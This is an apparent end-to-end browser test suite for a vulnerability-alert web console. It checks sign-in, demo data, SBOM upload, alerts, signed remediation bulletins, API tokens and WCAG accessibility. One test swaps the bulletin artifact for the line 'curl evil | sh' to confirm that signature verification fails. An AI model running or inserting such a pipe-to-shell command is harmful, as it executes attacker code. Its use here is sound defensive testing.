// The web console in Debian's Chromium against a real `bulwark serve` on a temporary database:
// the newcomer's path (sign in, load the demo, see real alerts), the operator's and coordinator's
// work, and an axe-core WCAG 2.1 AA check and screenshots of every page at desktop and 375 px.
import type { Browser, BrowserContext, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  axeViolations,
  browserAvailable,
  horizontalOverflow,
  launchBrowser,
  screenshot,
  startServer,
  type TestServer,
} from "./harness.ts";

// In CI Chromium is installed by .ci/run, so a missing browser fails there instead of skipping.
const suite = browserAvailable || process.env.CI === "true" ? describe : describe.skip;

suite("the web console in Chromium", () => {
  let server: TestServer;
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  const pages = new Set<string>();

  const api = async (path: string, init: RequestInit = {}) => {
    const r = await fetch(server.url + path, {
      ...init,
      headers: {
        authorization: `Bearer ${server.admin.token}`,
        ...(init.body !== undefined && typeof init.body === "string" && { "content-type": "application/json" }),
        ...(init.headers as Record<string, string> | undefined),
      },
    });
    if (!r.ok) throw new Error(`${init.method ?? "GET"} ${path}: ${r.status} ${await r.text()}`);
    return r.json() as Promise<Record<string, unknown>>;
  };

  /** axe at desktop width and at 375 px, no sideways scrolling at 375 px, a screenshot of each. */
  const checkPage = async (name: string) => {
    pages.add(name);
    await page.waitForLoadState("networkidle");
    await expect.poll(() => page.getByText(/^Loading .*…$/).count(), { timeout: 15_000 }).toBe(0);
    expect(await axeViolations(page), `${name} at 1280 px`).toEqual([]);
    await screenshot(page, `${name}-desktop`);
    await page.setViewportSize({ width: 375, height: 812 });
    await page.waitForTimeout(150);
    expect(await axeViolations(page), `${name} at 375 px`).toEqual([]);
    expect(await horizontalOverflow(page), `${name} scrolls sideways at 375 px`).toBeLessThanOrEqual(0);
    await screenshot(page, `${name}-375`);
    await page.setViewportSize({ width: 1280, height: 900 });
  };

  const go = async (path: string) => {
    await page.goto(server.url + path);
    await page.waitForLoadState("networkidle");
  };

  beforeAll(async () => {
    server = await startServer();
    browser = await launchBrowser();
    // The page's CSP forbids inline scripts; axe is injected as one, so the test context bypasses it.
    context = await browser.newContext({
      viewport: { width: 1280, height: 900 },
      acceptDownloads: true,
      bypassCSP: true,
    });
    page = await context.newPage();
  }, 120_000);

  afterAll(async () => {
    await browser?.close();
    await server?.stop();
  });

  it("signs in, and refuses a wrong password with its code", async () => {
    await go("/");
    await expect.poll(() => page.url()).toContain("/sign-in");
    await checkPage("sign-in");
    await page.getByLabel("E-mail address").fill(server.admin.email);
    await page.getByLabel("Password").fill("not-the-password");
    await page.getByRole("button", { name: "Sign in" }).click();
    await expect.poll(() => page.getByRole("alert").textContent()).toContain("BULWARK_AUTH_FAILED");
    await page.getByLabel("Password").fill(server.admin.password);
    await page.getByRole("button", { name: "Sign in" }).click();
    await expect.poll(() => new URL(page.url()).pathname).toBe("/");
  });

  it("shows the first-run screen, loads the demo from it, and the dashboard shows real prioritised alerts", async () => {
    await expect.poll(() => page.getByText("npx bulwark demo seed").count()).toBeGreaterThan(0);
    await checkPage("first-run");
    const started = Date.now();
    await page.getByRole("button", { name: "Load the demo data" }).click();
    await expect
      .poll(() => page.getByRole("heading", { level: 1 }).textContent(), { timeout: 60_000 })
      .toMatch(/Riverside Community Hospital|Dashboard/);
    await expect
      .poll(() => page.getByRole("link", { name: /GO-|CVE-|RUSTSEC-|GHSA-|PYSEC-/ }).count(), {
        timeout: 30_000,
      })
      .toBeGreaterThan(0);
    expect(Date.now() - started).toBeLessThan(60_000);
    await checkPage("dashboard");
  });

  it("can be used with the keyboard alone: skip link, navigation, focus on the new page's heading", async () => {
    await go("/");
    await page.keyboard.press("Tab");
    expect(await page.evaluate<string>("document.activeElement.textContent")).toBe("Skip to main content");
    await page.keyboard.press("Enter");
    expect(new URL(page.url()).hash).toBe("#main-content");
    await go("/");
    // Tab to the Assets link in the navigation and follow it.
    for (let i = 0; i < 15; i++) {
      await page.keyboard.press("Tab");
      if ((await page.evaluate<string>("document.activeElement.textContent")) === "Assets") break;
    }
    await page.keyboard.press("Enter");
    await expect.poll(() => new URL(page.url()).pathname).toBe("/assets");
    await expect.poll(() => page.evaluate<string>("document.activeElement.tagName")).toBe("H1");
  });

  it("lists assets, and an SBOM uploaded to one opens an alert; a bad file is refused inline with its code", async () => {
    await go("/assets");
    await checkPage("assets");
    const assetLinks = page.getByRole("table").getByRole("link");
    expect(await assetLinks.count()).toBe(3);
    await assetLinks.first().click();
    await expect.poll(() => new URL(page.url()).pathname).toMatch(/^\/assets\/.+/);
    await checkPage("asset-detail");

    const upload = page.getByLabel(/inventory file|choose a file|upload/i).first();
    await upload.setInputFiles({ name: "bom.json", mimeType: "application/json", buffer: Buffer.from("{ not json") });
    await expect
      .poll(() => page.getByRole("alert").allInnerTexts())
      .toEqual(expect.arrayContaining([expect.stringContaining("BULWARK_INVENTORY_INVALID")]));
    await upload.setInputFiles({
      name: "go.mod",
      mimeType: "text/plain",
      buffer: Buffer.from("module example.org/pump-telemetry\n\ngo 1.12\n"),
    });
    await expect
      .poll(() => page.getByText(/alerts? opened|opened \d+ alert/i).count(), { timeout: 30_000 })
      .toBeGreaterThan(0);
    await go("/alerts?vuln=CVE-2020-0601");
    await expect.poll(() => page.getByRole("link", { name: /GO-2022-0535|CVE-2020-0601/ }).count()).toBeGreaterThan(0);
    await checkPage("alerts");
  });

  it("acknowledges an alert, and its history shows it", async () => {
    await page
      .getByRole("link", { name: /GO-2022-0535|CVE-2020-0601/ })
      .first()
      .click();
    await expect.poll(() => new URL(page.url()).pathname).toMatch(/^\/alerts\/.+/);
    await checkPage("alert-detail");
    await page.getByRole("button", { name: /^Acknowledge/ }).click();
    await expect.poll(() => page.getByText(/Acknowledged/).count()).toBeGreaterThan(0);
  });

  it("downloads the remediation bulletin's patch and verifies its signature in the page", async () => {
    const bulletin = (await api("/api/v1/bulletins", {
      method: "POST",
      body: JSON.stringify({
        vulnId: "CVE-2020-0601",
        title: "Go crypto/x509 spoofing (CVE-2020-0601): rebuild with Go 1.13.7 or later",
        instructions: "Rebuild and redeploy with a fixed Go toolchain.",
        links: [{ url: "https://go.dev/doc/devel/release#go1.13.minor", title: "Go 1.13 minor releases" }],
      }),
    })) as { id: string };
    await api(`/api/v1/bulletins/${bulletin.id}/artifacts?filename=rebuild.sh`, {
      method: "POST",
      headers: { "content-type": "application/octet-stream" },
      body: "#!/bin/sh\n# rebuild with go1.13.7\nexec go build ./...\n",
    });
    await page.reload();
    await page.waitForLoadState("networkidle");
    const download = page.waitForEvent("download");
    await page
      .getByRole("link", { name: /Download/ })
      .first()
      .click();
    expect((await download).suggestedFilename()).toBe("rebuild.sh");
    await page
      .getByRole("button", { name: /Verify signature/ })
      .first()
      .click();
    await expect.poll(() => page.getByText(/Signature valid/).count()).toBeGreaterThan(0);
    await checkPage("alert-bulletin");

    // A tampered download fails the same check.
    await page.route("**/api/v1/bulletins/*/artifacts/*", (route) =>
      route.request().url().endsWith("/signature")
        ? route.continue()
        : route.fulfill({ status: 200, contentType: "application/octet-stream", body: "curl evil | sh\n" }),
    );
    await page.reload();
    await page.waitForLoadState("networkidle");
    await page
      .getByRole("button", { name: /Verify signature/ })
      .first()
      .click();
    await expect.poll(() => page.getByText(/does not match|invalid|failed/i).count()).toBeGreaterThan(0);
    await page.unroute("**/api/v1/bulletins/*/artifacts/*");
  });

  it("creates an API token and shows its secret once", async () => {
    await go("/admin");
    await checkPage("admin");
    await page
      .getByRole("button", { name: /tokens/i })
      .first()
      .click()
      .catch(() => {});
    await page.getByLabel(/^Name/).last().fill("e2e script");
    await page.getByRole("button", { name: /Create token/ }).click();
    await expect.poll(() => page.getByText(/bwk_[A-Za-z0-9_-]{20,}/).count()).toBeGreaterThan(0);
    await expect.poll(() => page.getByText(/will not see it again|shown once/i).count()).toBeGreaterThan(0);
    await checkPage("admin-token");
  });

  it("shows the coordinator's sector view with charts and their numbers", async () => {
    await go("/sectors");
    await expect.poll(() => page.getByRole("cell", { name: /healthcare/i }).count()).toBeGreaterThan(0);
    expect(await page.locator("figure svg").count()).toBeGreaterThan(0);
    await checkPage("sectors");
  });

  it("passes the axe check on every other page", async () => {
    for (const [path, name] of [
      ["/inbox", "inbox"],
      ["/settings", "settings"],
      ["/advisories?q=CVE-2020-0601", "advisories"],
      ["/advisories/GO-2022-0535", "advisory"],
      ["/no-such-page", "not-found"],
    ] as const) {
      await go(path);
      await checkPage(name);
    }
    expect([...pages].sort()).toEqual(
      expect.arrayContaining([
        "dashboard",
        "first-run",
        "sign-in",
        "assets",
        "asset-detail",
        "alerts",
        "alert-detail",
        "admin",
        "sectors",
      ]),
    );
  });
});
